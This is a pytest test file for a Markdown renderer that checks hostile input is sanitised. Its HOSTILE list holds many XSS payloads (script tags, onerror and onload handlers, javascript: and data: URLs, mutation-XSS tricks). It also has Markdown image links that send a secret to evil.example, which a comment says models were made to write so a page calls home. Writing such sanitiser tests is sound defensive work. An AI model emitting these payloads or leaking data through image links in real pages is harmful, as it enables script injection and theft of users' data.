"""Markdown: what is kept of it, and what never reaches a page."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from conversations.markdown import ATTRIBUTES, TAGS, render

# What got past sanitisers of Markdown before, and what models were made to write so that a page calls home.
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object><embed src=x><base href=//evil.example/>",
    "<form action=//evil.example><input name=q><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//evil.example>",
    "<a href='https://evil.example' style='position:fixed;inset:0' onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "![x](https://evil.example/?q=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[![x](https://evil.example/?q=secret)](https://example.org)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x](https://example.org 'a\" onmouseover=\"alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<https://example.org/"onmouseover=alert(1)>',
    '```"><img src=x onerror=alert(1)>\nhi\n```',
    "```html\n<img src=x onerror=alert(1)>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| a |",
    "# <img src=x onerror=alert(1)>",
    "\0<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
]


class Page(HTMLParser):
    """What a browser would find: elements with their attributes."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attributes)))


def assert_harmless(source: str) -> None:
    for tag, attributes in Page(source).found:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | {"class", "rel"}
        if "href" in attributes:
            scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", attributes["href"] or "", re.IGNORECASE)
            assert not scheme or scheme[1].lower() in ("http", "https", "mailto"), attributes
            assert attributes["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize("text", HOSTILE)
def test_a_corpus_of_what_got_past_others(text: str) -> None:
    shown = render(text)
    assert_harmless(shown)
    assert not re.search(r"<(script|img|svg|iframe|style|form|object)", shown)


PIECES = st.sampled_from(
    [*HOSTILE, "[", "](", ")", "<", ">", "`", "```", "\n", "\n\n", "> ", "| ", "* ", "&lt;", "\\", "!", "'", '"']
)


@given(st.lists(PIECES | st.text(max_size=5), max_size=6).map("".join))
@example("[x](https://example.org/)")
def test_nothing_made_of_such_pieces_does_harm(text: str) -> None:
    assert_harmless(render(text))


def test_code_is_coloured() -> None:
    shown = render("```python\ndef answer():\n    return 42\n```")
    assert '<span class="tok-k">def</span>' in shown
    assert 'class=""' not in shown


def test_code_of_an_unknown_language_is_shown_as_it_is() -> None:
    assert render("```klingon\n<qapla'>\n```").startswith('<pre class="code"><code>&lt;qapla')


def test_text_is_formatted() -> None:
    shown = render("**bold** `code`\n\n- one\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    for piece in ("<strong>bold</strong>", "<code>code</code>", "<li>one</li>", "<td>1</td>"):
        assert piece in shown


@pytest.mark.parametrize(
    ("text", "never"),
    [
        ("<script>alert(1)</script>", "<script"),
        ('<b onmouseover="x()">hi</b>', "<b"),
        ("[x](javascript:alert(1))", "href"),
        ("[x](data:text/html;base64,AAAA)", "href"),
        ("![x](https://evil.example/?q=secret)", "<img"),
        ("<iframe src=//evil.example></iframe>", "<iframe"),
        ('```"><img src=x onerror=y>\nhi\n```', "<img"),
    ],
)
def test_what_could_act_or_call_home_is_not_markup(text: str, never: str) -> None:
    assert never not in render(text)


def test_links_leave_no_trace() -> None:
    shown = render("[site](https://example.org/)")
    assert 'href="https://example.org/"' in shown
    assert 'rel="noopener noreferrer nofollow"' in shown
